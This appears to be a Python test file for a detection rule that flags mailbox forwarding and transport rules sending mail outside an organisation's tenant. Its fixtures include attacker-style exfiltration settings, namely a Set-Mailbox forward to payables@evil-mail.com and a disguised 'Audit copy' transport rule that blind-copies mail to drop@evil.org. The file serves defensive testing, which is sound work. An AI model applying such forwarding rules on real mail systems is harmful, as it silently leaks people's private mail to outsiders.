"""mail-forwarding: mailbox forwarding and transport rules sending mail out of the tenant."""

from __future__ import annotations

import json
from pathlib import Path

from mailhunt.detect.analytics.mail_forwarding import ANALYTIC
from mailhunt.store.db import Store
from tests.detect.admin_records import (
    ADMIN,
    ALICE,
    ATTACKER_IP,
    BOB,
    cmdlet,
    detect,
    intrusion,
    of_rule,
    simulated_bed,
    why,
)
from tests.helpers import TENANT, at

RULE = "mail-forwarding"


def test_external_forwarding_from_a_new_network_is_high(store: Store, tmp_path: Path) -> None:
    change = cmdlet(
        "fwd",
        at(10, 3),
        "Set-Mailbox",
        {
            "Identity": "bob",
            "ForwardingSmtpAddress": "smtp:payables@evil-mail.com",
            "DeliverToMailboxAndForward": "True",
        },
        by=BOB,
        ip=ATTACKER_IP,
    )
    [alert] = detect(store, tmp_path, ANALYTIC, [change])
    assert (alert.rule_id, alert.severity, alert.technique) == (RULE, "high", "T1114.003")
    assert json.loads(alert.entity) == [TENANT, BOB]
    assert alert.summary == (
        f"Mailbox {BOB} set to forward mail outside the tenant to payables@evil-mail.com "
        f"(Set-Mailbox by {BOB}); changed from a network new to its author"
    )
    assert (alert.mailboxes, alert.event_ids) == ([BOB], ["fwd"])
    assert why(store, ANALYTIC)[0]["forward_to"] == ["payables@evil-mail.com"]


def test_transport_rule_without_a_copy_kept_is_high(store: Store, tmp_path: Path) -> None:
    rule = cmdlet(
        "tr", at(10, 3), "New-TransportRule", {"Name": "Audit copy", "BlindCopyTo": "drop@evil.org"}
    )
    [alert] = detect(store, tmp_path, ANALYTIC, [rule])
    assert (alert.severity, alert.mailboxes, alert.users) == ("high", [], [ADMIN])
    assert alert.summary.startswith('Transport rule "Audit copy" set to forward mail outside')


def test_internal_own_elsewhere_and_cleared_forwarding_raise_nothing(
    store: Store, tmp_path: Path
) -> None:
    changes = [
        cmdlet(
            "in",
            at(10, 3),
            "Set-Mailbox",
            {"Identity": ALICE, "ForwardingSmtpAddress": f"smtp:{BOB}"},
            by=ADMIN,
        ),
        cmdlet(
            "own",
            at(10, 3),
            "Set-Mailbox",
            {"Identity": ALICE, "ForwardingSmtpAddress": "smtp:alice@contoso-emea.com"},
            by=ALICE,
        ),
        cmdlet(
            "clear",
            at(10, 3),
            "Set-Mailbox",
            {"Identity": ALICE, "ForwardingSmtpAddress": "$null"},
            by=ALICE,
        ),
        cmdlet(
            "name",
            at(10, 3),
            "Set-Mailbox",
            {"Identity": ALICE, "ForwardingAddress": "Bob Jones"},
            by=ADMIN,
        ),
    ]
    assert detect(store, tmp_path, ANALYTIC, changes) == []


def test_test_bed_forwarding_is_raised_and_noise_is_not() -> None:
    alerts, truth = intrusion("bec-inbox-rule")
    raised = [a for a in of_rule(alerts, RULE) if set(truth.key_record_ids) & set(a.event_ids)]
    assert [a.severity for a in raised] == ["high"]
    quiet, _ = simulated_bed(False)
    assert of_rule(quiet, RULE) == []
